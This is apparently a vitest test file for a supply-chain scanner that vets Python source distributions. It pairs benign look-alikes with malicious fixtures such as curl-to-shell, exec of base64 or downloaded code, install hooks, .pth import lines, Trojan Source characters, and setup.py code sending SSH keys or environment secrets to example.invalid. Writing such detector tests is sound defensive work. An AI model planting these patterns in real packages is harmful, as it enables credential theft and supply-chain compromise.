import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/vet/types.js';
import { vetSdist, type VetOptions } from '../../src/vet/vet-sdist.js';
import { ELF_HEADER, NAME, PNG_HEADER, VERSION, py, writeVetSdist, type VetFixtureOptions } from '../fixtures/vet/sdists.js';

interface Case {
  name: string;
  files: Record<string, string>;
  fixture?: VetFixtureOptions;
}

async function vetFiles(files: Record<string, string>, fixture: VetFixtureOptions = {}, opts: VetOptions = {}): Promise<Finding[]> {
  const sdist = await writeVetSdist(files, fixture);
  const result = await vetSdist(sdist.path, { name: NAME, version: VERSION, sha256: sdist.sha256 }, { minAgeDays: 0, ...opts });
  return result.findings;
}

/** Each rule: fixtures it must catch (with the severity) and look-alikes it must leave alone. */
const RULE_CASES: Array<{ rule: string; severity: 'warn' | 'block'; malicious: Case[]; benign: Case[] }> = [
  {
    rule: 'HB101',
    severity: 'block',
    malicious: [
      { name: 'urlopen in setup.py', files: { 'setup.py': py('import urllib.request', 'urllib.request.urlopen("https://example.invalid/p").read()') } },
      { name: 'aliased requests in setup.py', files: { 'setup.py': py('import requests as r', 'r.post("https://example.invalid", data=b"x")') } },
      { name: 'pip install from setup.py', files: { 'setup.py': py('import subprocess, sys', 'subprocess.check_call([sys.executable, "-m", "pip", "install", "helper"])') } },
      { name: 'dynamic socket import', files: { 'setup.py': py('s = __import__("socket")', 'c = s.create_connection(("example.invalid", 80))') } },
      {
        name: 'in-tree backend',
        files: {
          'pyproject.toml': py('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["_build"]'),
          '_build/backend.py': py('import socket', 'def build_wheel(d, c=None, m=None):', '    socket.socket().connect(("example.invalid", 1))'),
        },
      },
    ],
    benign: [
      { name: 'docstring mentioning requests.get', files: { 'setup.py': py('"""Uses requests.get(url) at run time, never at build."""', 'from setuptools import setup', 'setup()') } },
      { name: 'requests in package code and tests', files: { 'demo_pkg/api.py': py('import requests', 'def fetch(u):', '    return requests.get(u).json()'), 'tests/test_api.py': py('import requests', 'requests.get("http://127.0.0.1")') } },
      { name: 'urllib.parse in setup.py', files: { 'setup.py': py('from urllib.parse import urljoin', 'URL = urljoin("https://example.invalid/", "docs")') } },
    ],
  },
  {
    rule: 'HB102',
    severity: 'warn',
    malicious: [{ name: 'git describe in setup.py', files: { 'setup.py': py('import subprocess', 'v = subprocess.check_output(["git", "describe"])') } }],
    benign: [{ name: 'commented out and quoted', files: { 'setup.py': py('# subprocess.run(["make"])', 'HELP = "call os.system(cmd) yourself"') } }],
  },
  {
    rule: 'HB103',
    severity: 'block',
    malicious: [
      { name: 'exec(b64decode)', files: { 'demo_pkg/__init__.py': py('import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))') } },
      { name: 'decoded through variables', files: { 'demo_pkg/util.py': py('import base64, zlib', 'def go(s):', '    raw = zlib.decompress(base64.b64decode(s))', '    code = raw.decode()', '    exec(code)') } },
      { name: 'aliased decoder', files: { 'demo_pkg/x.py': py('from base64 import b64decode as d', 'eval(d("MQ=="))') } },
      { name: 'chr join', files: { 'demo_pkg/x.py': py('exec("".join(chr(c) for c in [112, 114, 105]))') } },
      { name: 'reversed literal', files: { 'demo_pkg/x.py': py('exec(")1(tnirp"[::-1])') } },
      { name: 'marshal into FunctionType', files: { 'demo_pkg/x.py': py('import marshal, types', 'f = types.FunctionType(marshal.loads(b"\\xe3"), {})') } },
      { name: 'python 2 exec statement', files: { 'demo_pkg/x.py': py('import base64', 'exec base64.b64decode("MQ==")') } },
      { name: 'decoded payload to a process', files: { 'setup.py': py('import base64, subprocess', 'subprocess.Popen(["python", "-c", base64.b64decode("MQ==")])') } },
    ],
    benign: [
      { name: 'decoding data, not code', files: { 'demo_pkg/x.py': py('import base64, json', 'data = base64.b64decode(blob)', 'obj = json.loads(data)') } },
      { name: 'exec of a version file', files: { 'setup.py': py('ns = {}', 'exec(compile(open("demo_pkg/version.py").read(), "version.py", "exec"), ns)') } },
      { name: 're.compile of decoded text', files: { 'demo_pkg/x.py': py('import base64, re', 'rx = re.compile(base64.b64decode(p).decode())') } },
      { name: 'exec in a docstring example', files: { 'demo_pkg/x.py': py('"""Example: exec(base64.b64decode(s))"""') } },
    ],
  },
  {
    rule: 'HB104',
    severity: 'block',
    malicious: [
      {
        name: 'install hook that runs a process',
        files: {
          'setup.py': py(
            'import os',
            'from setuptools import setup',
            'from setuptools.command.install import install',
            'class PostInstall(install):',
            '    def run(self):',
            '        install.run(self)',
            '        os.system("id")',
            "setup(name='demo-pkg', cmdclass={'install': PostInstall})",
          ),
        },
      },
    ],
    benign: [
      {
        name: 'build_ext override',
        files: { 'setup.py': py('from setuptools import setup', 'from setuptools.command.build_ext import build_ext', 'class B(build_ext):', '    pass', "setup(cmdclass={'build_ext': B})") },
      },
    ],
  },
  {
    rule: 'HB104',
    severity: 'warn',
    malicious: [{ name: 'plain develop override', files: { 'setup.py': py('from setuptools import setup', 'from setuptools.command.develop import develop as _d', 'class D(_d):', '    pass', "setup(cmdclass={'develop': D})") } }],
    benign: [{ name: 'install_requires only', files: { 'setup.py': py('from setuptools import setup', "setup(install_requires=['attrs'])") } }],
  },
  {
    rule: 'HB105',
    severity: 'block',
    malicious: [
      { name: 'exec(urlopen().read())', files: { 'demo_pkg/x.py': py('from urllib.request import urlopen', 'def f(u):', '    exec(urlopen(u).read())') } },
      { name: 'curl piped to sh', files: { 'demo_pkg/x.py': py('import os', 'os.system("curl -fsSL https://example.invalid/i.sh | sh")') } },
      { name: 'download then exec via a variable', files: { 'demo_pkg/x.py': py('import requests', 'def f(u):', '    r = requests.get(u)', '    payload = r.text', '    exec(payload)') } },
      { name: 'urlretrieve then run', files: { 'setup.py': py('import subprocess', 'from urllib.request import urlretrieve', 'urlretrieve("https://example.invalid/x", "/tmp/x.bin")', 'subprocess.call(["/tmp/x.bin"])') } },
    ],
    benign: [
      { name: 'fetch and run unrelated', files: { 'demo_pkg/x.py': py('import requests, subprocess', 'def f(u):', '    data = requests.get(u).json()', '    subprocess.run(["git", "status"])', '    return data') } },
      { name: 'curl|sh in a docstring', files: { 'demo_pkg/x.py': py('"""Install with: curl https://example.invalid/i.sh | sh"""') } },
    ],
  },
  {
    rule: 'HB106',
    severity: 'block',
    malicious: [
      { name: 'setup.py sends an SSH key', files: { 'setup.py': py('import os, requests', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'requests.post("https://example.invalid", data=key)') } },
      { name: 'token and network in one function', files: { 'demo_pkg/x.py': py('import os, urllib.request', 'def f():', '    t = os.environ["AWS_SECRET_ACCESS_KEY"]', '    urllib.request.urlopen("https://example.invalid/?" + t)') } },
      { name: 'whole environment', files: { 'demo_pkg/x.py': py('import os, json, requests', 'def f():', '    requests.post("https://example.invalid", data=json.dumps(dict(os.environ)))') } },
    ],
    benign: [
      { name: 'token read apart from the client', files: { 'demo_pkg/x.py': py('import os, requests', 'def token():', '    return os.getenv("GITHUB_TOKEN")', 'def get(u, t):', '    return requests.get(u, headers={"Authorization": t})') } },
      { name: 'netrc in a docstring', files: { 'demo_pkg/x.py': py('import requests', 'def f(u):', '    """Credentials come from ~/.netrc."""', '    return requests.get(u)') } },
    ],
  },
  {
    rule: 'HB107',
    severity: 'block',
    malicious: [{ name: '.pth import line', files: { 'demo-init.pth': 'import os; os.system("id")\n' } }],
    benign: [{ name: '.pth with paths only', files: { 'demo.pth': 'src\n# import this is a comment\n ./lib\n' } }],
  },
  {
    rule: 'HB108',
    severity: 'block',
    malicious: [
      { name: 'process at import', files: { 'demo_pkg/__init__.py': py('import subprocess', 'subprocess.Popen(["sh", "-c", "id"])') } },
      { name: 'network at import, inside try', files: { 'demo_pkg/__init__.py': py('import urllib.request', 'try:', '    urllib.request.urlopen("https://example.invalid")', 'except Exception:', '    pass') } },
    ],
    benign: [
      { name: 'inside a function', files: { 'demo_pkg/__init__.py': py('import subprocess', 'def version():', '    return subprocess.check_output(["git", "describe"])') } },
      { name: 'under the main guard', files: { 'demo_pkg/__init__.py': py('import subprocess', "if __name__ == '__main__':  # pragma: no cover", '    subprocess.run(["ls"])') } },
      { name: 'in a script module', files: { 'demo_pkg/tool.py': py('import subprocess', 'subprocess.run(["ls"])') } },
    ],
  },
  {
    rule: 'HB109',
    severity: 'block',
    malicious: [
      { name: 'webhook in __init__', files: { 'demo_pkg/__init__.py': py('HOOK = "https://discord.com/api/webhooks/123/abc"') } },
      { name: 'raw public IP in setup.py', files: { 'setup.py': py('URL = "http://203.0.114.7:8080/p"') } },
      { name: 'shortener in __init__', files: { 'demo_pkg/__init__.py': py('U = "https://bit.ly/3abcd"') } },
    ],
    benign: [
      { name: 'links in prose', files: { 'demo_pkg/__init__.py': py('"""See https://bit.ly/3abcd and https://pastebin.com/x."""', '# ping http://203.0.114.7/ when done') } },
      { name: 'loopback, private and documentation IPs', files: { 'demo_pkg/__init__.py': py('A = "http://127.0.0.1:8000"', 'B = "http://10.1.2.3/"', 'C = "http://192.0.2.1/"') } },
      { name: 'example IPs in tests', files: { 'tests/test_net.py': py('URL = "http://203.0.114.7/"') } },
      { name: 'a plain discord link', files: { 'demo_pkg/__init__.py': py('CHAT = "https://discord.com/invite/demo"') } },
    ],
  },
  {
    rule: 'HB109',
    severity: 'warn',
    malicious: [{ name: 'paste site in a feature module', files: { 'demo_pkg/share.py': py('PASTE = "https://pastebin.com/api/api_post.php"') } }],
    benign: [{ name: 'ordinary host', files: { 'demo_pkg/share.py': py('API = "https://api.example.invalid/v1"') } }],
  },
  {
    rule: 'HB110',
    severity: 'block',
    malicious: [
      { name: 'Trojan Source comment', files: { 'demo_pkg/x.py': py('access = "user"', 'if access != "user\u202E \u2066# admin\u2069 \u2066":', '    pass') } },
      { name: 'zero-width identifier', files: { 'demo_pkg/x.py': py('adm\u200Bin = True') } },
      { name: 'hidden payload in a string', files: { 'demo_pkg/x.py': py(`S = "x${'\uFE01\uFE02\uFE03\uFE04'.repeat(4)}"`) } },
    ],
    benign: [
      { name: 'emoji and Arabic text', files: { 'demo_pkg/x.py': py('FAMILY = "👨\u200D👩\u200D👧"', 'KEYCAP = "#\uFE0F\u20E3"', 'DATE = "d\u200F/m\u200F/Y"') } },
      { name: 'byte order mark', files: { 'demo_pkg/x.py': '\uFEFFX = 1\n' } },
    ],
  },
  {
    rule: 'HB111',
    severity: 'block',
    malicious: [
      { name: 'ELF named like data', files: {}, fixture: { binaries: { 'demo_pkg/data.txt': ELF_HEADER } } },
      { name: '.pyc without source', files: {}, fixture: { binaries: { 'demo_pkg/__pycache__/core.cpython-312.pyc': Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]) } } },
    ],
    benign: [
      { name: 'ELF test data', files: {}, fixture: { binaries: { 'tests/data/hello': ELF_HEADER } } },
      { name: 'an image', files: {}, fixture: { binaries: { 'demo_pkg/logo.png': PNG_HEADER } } },
    ],
  },
  {
    rule: 'HB111',
    severity: 'warn',
    malicious: [{ name: 'shared object', files: {}, fixture: { binaries: { 'demo_pkg/_speedups.so': ELF_HEADER } } }],
    benign: [{ name: 'C source', files: { 'demo_pkg/_speedups.c': '#include <Python.h>\n' } }],
  },
  {
    rule: 'HB112',
    severity: 'block',
    malicious: [
      { name: 'other version', files: {}, fixture: { pkgInfo: 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 2.0.0\n' } },
      { name: 'other name', files: {}, fixture: { pkgInfo: 'Metadata-Version: 2.1\nName: demo-pkq\nVersion: 1.0.0\n' } },
      { name: 'no PKG-INFO', files: {}, fixture: { pkgInfo: null } },
    ],
    benign: [{ name: 'normalised name and version', files: {}, fixture: { pkgInfo: 'Metadata-Version: 2.1\nName: Demo_Pkg\nVersion: 1.0\n' } }],
  },
  {
    rule: 'HB113',
    severity: 'warn',
    malicious: [
      { name: 'setup.py', files: { 'setup.py': py('from setuptools import setup', "setup(dependency_links=['https://example.invalid/pkgs'])") } },
      { name: 'setup.cfg', files: { 'setup.cfg': '[options]\ndependency_links = https://example.invalid/pkgs\n' } },
    ],
    benign: [{ name: 'mentioned in a README', files: { 'README.md': 'We do not use dependency_links = anything.\n' } }],
  },
  {
    rule: 'HB114',
    severity: 'block',
    malicious: [
      { name: 'build-system URL', files: { 'pyproject.toml': py('[build-system]', 'requires = ["helper @ https://example.invalid/helper-1.0.tar.gz"]') } },
      { name: 'git install_requires', files: { 'setup.py': py('from setuptools import setup', "setup(install_requires=['lib @ git+https://example.invalid/lib.git'])") } },
      { name: 'Requires-Dist URL', files: {}, fixture: { pkgInfo: 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0.0\nRequires-Dist: lib @ https://example.invalid/lib.whl\n' } },
    ],
    benign: [
      { name: 'project URL', files: { 'setup.py': py('from setuptools import setup', "setup(url='https://example.invalid/demo')") } },
      { name: 'dev requirements nobody reads', files: { 'requirements.txt': '-e git+https://example.invalid/lib.git#egg=lib\n', 'setup.py': py('from setuptools import setup', 'setup()') } },
    ],
  },
  {
    rule: 'HB114',
    severity: 'warn',
    malicious: [{ name: 'requirements read by setup.py', files: { 'requirements.txt': '--extra-index-url https://example.invalid/simple\nattrs\n', 'setup.py': py('from setuptools import setup', 'setup(install_requires=open("requirements.txt").read().split())') } }],
    benign: [{ name: 'plain requirements read by setup.py', files: { 'requirements.txt': 'attrs>=20\n', 'setup.py': py('from setuptools import setup', 'setup(install_requires=open("requirements.txt").read().split())') } }],
  },
  {
    rule: 'HB115',
    severity: 'warn',
    malicious: [{ name: 'setup_requires', files: { 'setup.py': py('from setuptools import setup', "setup(setup_requires=['pytest-runner'])") } }],
    benign: [{ name: 'tests_require', files: { 'setup.py': py('from setuptools import setup', "setup(tests_require=['pytest'])") } }],
  },
];

describe.each(RULE_CASES)('$rule ($severity)', ({ rule, severity, malicious, benign }) => {
  it.each(malicious)('catches: $name', async ({ files, fixture }) => {
    const findings = await vetFiles(files, fixture);

    expect(findings.filter((f) => f.rule === rule).map((f) => f.severity)).toContain(severity);
  });

  it.each(benign)('leaves alone: $name', async ({ files, fixture }) => {
    const findings = await vetFiles(files, fixture);

    expect(findings.filter((f) => f.rule === rule)).toEqual([]);
  });
});

describe('HB116 unscanned-source', () => {
  it('blocks a setup.py larger than the scan limit', async () => {
    const files = { 'setup.py': py('from setuptools import setup', `# ${'x'.repeat(5000)}`, 'setup()') };

    const findings = await vetFiles(files, {}, { maxTextBytes: 1024 });

    expect(findings).toContainEqual(expect.objectContaining({ rule: 'HB116', severity: 'block', file: 'setup.py' }));
  });

  it('leaves a file under the limit alone', async () => {
    const files = { 'setup.py': py('from setuptools import setup', 'setup()') };

    const findings = await vetFiles(files, {}, { maxTextBytes: 1024 });

    expect(findings.filter((f) => f.rule === 'HB116')).toEqual([]);
  });
});

describe('finding details', () => {
  it('names the file and line and escapes hidden characters in the excerpt', async () => {
    const files = { 'demo_pkg/x.py': py('x = 1', 'adm\u200Bin = True') };

    const findings = await vetFiles(files);

    expect(findings).toContainEqual(expect.objectContaining({ rule: 'HB110', file: 'demo_pkg/x.py', line: 2, excerpt: 'adm\\u{200B}in = True' }));
  });

  it('passes a clean package', async () => {
    const files = { 'pyproject.toml': py('[build-system]', 'requires = ["flit_core"]', 'build-backend = "flit_core.buildapi"'), 'demo_pkg/__init__.py': py('"""Demo."""', '__version__ = "1.0.0"') };

    const findings = await vetFiles(files);

    expect(findings).toEqual([]);
  });
});
